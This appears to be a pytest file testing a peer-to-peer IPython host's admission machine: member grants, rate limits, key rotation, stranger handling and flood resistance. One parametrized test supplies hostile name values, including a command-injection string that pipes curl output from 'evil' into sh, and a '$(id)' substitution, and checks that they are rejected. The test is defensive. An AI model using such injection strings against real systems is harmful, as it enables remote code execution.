"""What the owner's host answers, to whom, and how often: each rule of the machine."""

from __future__ import annotations

import tracemalloc
from dataclasses import replace

import pytest
from friends import CLUSTER_ID, LOBBY, TITLE, certificate, print_of, roster, secret, session

from p2p_ipython.protocol.host_machine import (
    ANSWER_EVERY,
    KNOCK_LIFE,
    MAX_KNOCKS,
    MAX_SESSIONS,
    MOST_ANSWERS,
    Action,
    HostMachine,
    Knock,
    Outdated,
    Say,
    Tell,
)
from p2p_ipython.protocol.identity import Certificate, Session
from p2p_ipython.protocol.membership_machine import SERVE_EVERY
from p2p_ipython.protocol.messages import Admission, Answer, Ask, Grant, Hello, Reply, decode_admission
from p2p_ipython.protocol.roster import parts_of

WORK = secret().topic


@pytest.fixture
def host() -> HostMachine:
    return HostMachine(roster=roster(3, "bob"), secret=secret())


def opened(action: Action, session_: Session) -> Admission:
    assert isinstance(action, Say)
    assert isinstance(action.message, Grant)
    assert action.message.to == session_.sid
    return decode_admission(session_.unseal(action.message.box))


def stranger(number: int) -> Certificate:
    """One of many sessions, each of another key. (Nothing is sealed to it, so it need not be signed.)"""
    sid = number.to_bytes(16, "big")
    return replace(certificate("bob"), sid=sid, signer=f"SHA256:{number:043}")


# --- members ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("topic", [WORK, LOBBY.topic, secret(2).topic])
def test_a_member_is_granted_topic_and_key_where_he_asks(host: HostMachine, topic: str) -> None:
    bob = session("bob")
    (granted,) = host.asked(bob.certificate, Ask("bob", 2), topic, 0.0)
    assert isinstance(granted, Say)
    assert granted.topic == topic
    assert isinstance(granted.message, Grant)
    assert granted.message.epoch == 3
    assert opened(granted, bob) == Admission(CLUSTER_ID, secret().topic, secret().key)


def test_a_grant_opens_for_nobody_but_the_session_that_asked(host: HostMachine) -> None:
    (granted,) = host.asked(certificate("bob"), Ask("bob"), WORK, 0.0)
    assert isinstance(granted, Say)
    assert isinstance(granted.message, Grant)
    for other in (session("mallory"), session("bob", "client"), session("bob", number=2)):
        with pytest.raises(ValueError, match="not for us"):
            other.unseal(granted.message.box)


def test_a_session_is_answered_once_a_second(host: HostMachine) -> None:
    bob = certificate("bob")
    times = [tenth / 10 for tenth in range(100)]
    assert sum(len(host.asked(bob, Ask("bob"), WORK, now)) for now in times) == 10 / ANSWER_EVERY


def test_a_member_with_very_many_sessions_is_answered_within_bounds_and_others_all_the_same(host: HostMachine) -> None:
    host.changed(roster(4, "bob", "carol"), secret())
    sessions = [replace(certificate("bob"), sid=n.to_bytes(16, "big")) for n in range(1000)]
    answered = [bool(host.asked(one, Ask("bob"), WORK, 0.5)) for one in sessions]
    assert answered.count(True) == MOST_ANSWERS
    assert host.asked(certificate("carol"), Ask("carol"), WORK, 0.5) != []
    assert host.asked(sessions[-1], Ask("bob"), WORK, 1.5) != [], "who got no answer asks again"


def test_after_a_change_the_new_key_is_granted_and_never_the_old(host: HostMachine) -> None:
    assert host.changed(roster(4, "bob", key=2), secret(2)) == []
    bob = session("bob")
    (granted,) = host.asked(bob.certificate, Ask("bob", 3), WORK, 0.0)
    assert opened(granted, bob).key == secret(2).key


def test_who_has_been_taken_out_gets_nothing_on_the_topic_of_his_time(host: HostMachine) -> None:
    host.changed(roster(4, key=2), secret(2))
    assert host.asked(certificate("bob"), Ask("bob", 3), WORK, 0.0) == []


def test_who_has_been_taken_out_is_a_stranger_on_the_lobby(host: HostMachine) -> None:
    host.changed(roster(4, key=2), secret(2))
    actions = host.asked(certificate("bob"), Ask("bob", 3), LOBBY.topic, 0.0)
    assert actions == [
        Tell(Knock("bob", print_of("bob"))),
        Say(LOBBY.topic, Answer(certificate("bob").sid, Reply.WAITING)),
    ]


def test_a_machine_that_a_member_has_vouched_for_is_granted_as_he_is(host: HostMachine) -> None:
    laptop = replace(certificate("bob's laptop"), signer=print_of("bob"))
    assert isinstance(host.asked(laptop, Ask("bob"), LOBBY.topic, 0.0)[0], Say)
    assert host.knocks == ()


def test_who_has_a_newer_roster_gets_no_grant_and_the_owner_is_told_once(host: HostMachine) -> None:
    """This host runs on an old copy of the profile: what it would grant has been left behind."""
    assert host.asked(certificate("bob"), Ask("bob", 5), LOBBY.topic, 0.0) == [Outdated(5)]
    assert host.asked(certificate("bob"), Ask("bob", 6), LOBBY.topic, 5.0) == []
    assert host.asked(certificate("bob"), Ask("bob", 3), LOBBY.topic, 10.0) != []


# --- strangers --------------------------------------------------------------------------------------


def test_a_stranger_on_the_lobby_waits_and_the_owner_is_told_once(host: HostMachine) -> None:
    mallory = certificate("mallory")
    waiting = Say(LOBBY.topic, Answer(mallory.sid, Reply.WAITING))
    knock = Knock("mallory", print_of("mallory"))
    assert host.asked(mallory, Ask("mallory"), LOBBY.topic, 0.0) == [Tell(knock), waiting]
    assert host.asked(mallory, Ask("another-name"), LOBBY.topic, 2.0) == [waiting]
    assert host.knocks == (knock,)


@pytest.mark.parametrize(
    "name",
    [
        "",
        "bob (expected)",
        "b\u043eb",
        "x;curl evil|sh #",
        "bob knocks, with the key SHA256:A",
        "$(id)",
        "-x",
        "b" * 51,
    ],
)
def test_a_name_that_would_pass_for_something_else_does_not_reach_the_owner(host: HostMachine, name: str) -> None:
    assert host.asked(certificate("mallory"), Ask(name), LOBBY.topic, 0.0) == []
    assert host.knocks == ()


def test_who_is_approved_gets_his_grant_in_each_session_that_asked(host: HostMachine) -> None:
    sessions = [session("dora", number=number) for number in range(2)]
    for one in sessions:
        host.asked(one.certificate, Ask("dora"), LOBBY.topic, 0.0)
    granted = host.changed(roster(4, "bob", "dora"), secret())
    assert [opened(action, one).topic for action, one in zip(granted, sessions, strict=True)] == [WORK, WORK]
    assert host.knocks == ()


def test_another_change_of_the_roster_leaves_him_waiting(host: HostMachine) -> None:
    host.asked(certificate("dora"), Ask("dora"), LOBBY.topic, 0.0)
    assert host.changed(roster(4, "bob", "erik"), secret()) == []
    assert len(host.knocks) == 1


def test_who_is_refused_is_told_so_now_and_whenever_he_asks_again(host: HostMachine) -> None:
    dora = certificate("dora")
    no = Say(LOBBY.topic, Answer(dora.sid, Reply.NO))
    host.asked(dora, Ask("dora"), LOBBY.topic, 0.0)
    assert host.refuse(dora.signer) == [no]
    assert host.refuse(dora.signer) == []
    assert host.asked(dora, Ask("dora"), LOBBY.topic, 5.0) == [no]
    assert host.knocks == ()


def test_who_was_refused_and_is_let_in_later_is_a_member(host: HostMachine) -> None:
    host.refuse(print_of("dora"))
    host.changed(roster(4, "dora"), secret())
    host.changed(roster(5), secret())
    assert host.asked(certificate("dora"), Ask("dora"), LOBBY.topic, 0.0)[0] == Tell(Knock("dora", print_of("dora")))


def test_who_does_not_ask_any_more_is_forgotten(host: HostMachine) -> None:
    host.asked(certificate("dora"), Ask("dora"), LOBBY.topic, 0.0)
    host.asked(certificate("erik"), Ask("erik"), LOBBY.topic, KNOCK_LIFE + 1)
    assert [knock.name for knock in host.knocks] == ["erik"]


def test_only_so_many_may_wait(host: HostMachine) -> None:
    for number in range(2 * MAX_KNOCKS):
        host.asked(stranger(number), Ask("x"), LOBBY.topic, float(number))
    assert len(host.knocks) == MAX_KNOCKS
    assert host.asked(certificate("bob"), Ask("bob"), LOBBY.topic, 200.0) != [], "members don't wait with them"


def test_only_so_many_sessions_of_one_stranger_get_the_grant(host: HostMachine) -> None:
    for number in range(3 * MAX_SESSIONS):
        host.asked(session("dora", number=number).certificate, Ask("dora"), LOBBY.topic, float(number))
    assert len(host.changed(roster(4, "dora"), secret())) == MAX_SESSIONS


def test_a_flood_of_100_000_strangers_is_answered_within_bounds_in_bounded_memory(host: HostMachine) -> None:
    said = 0
    for number in range(100_000):
        said += len(host.asked(stranger(number), Ask("x"), LOBBY.topic, number / 10_000))
    assert said <= 11 * MOST_ANSWERS + MAX_KNOCKS
    assert host.asked(certificate("bob"), Ask("bob"), LOBBY.topic, 10.0) != []
    tracemalloc.start()
    try:
        for number in range(10_000):
            host.asked(stranger(number), Ask("x"), LOBBY.topic, 100 + number / 10_000)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 1 << 20


def test_strangers_who_ask_one_after_the_other_leave_nothing_behind(host: HostMachine) -> None:
    tracemalloc.start()
    try:
        for number in range(20_000):
            host.asked(stranger(number), Ask("x"), LOBBY.topic, float(number))
        left, _ = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert left < 1 << 20


# --- topics that were left --------------------------------------------------------------------------


def test_who_missed_the_roster_on_a_topic_that_was_left_is_given_it(host: HostMachine) -> None:
    newer = roster(4, "bob", key=2)
    host.changed(newer, secret(2))
    expected = [Say(WORK, part) for part in parts_of(newer)]
    assert host.greeted(Hello("bob", 0, epoch=3), WORK, 0.0) == expected
    assert host.greeted(Hello("carol", 0, epoch=3), WORK, 1.0) == [], "he has just been told, with the other"
    assert host.greeted(Hello("carol", 0, epoch=3), LOBBY.topic, 1.0) != []
    assert host.greeted(Hello("bob", 0, epoch=4), WORK, 100.0) == []
    assert host.greeted(Hello("carol", 0, epoch=3), WORK, SERVE_EVERY[0] + 1.0) == expected


def test_a_lobby_is_the_titles(host: HostMachine) -> None:
    assert LOBBY.cluster == TITLE
    assert host.asked(certificate("dora"), Ask("dora"), secret(9).topic, 0.0) == []
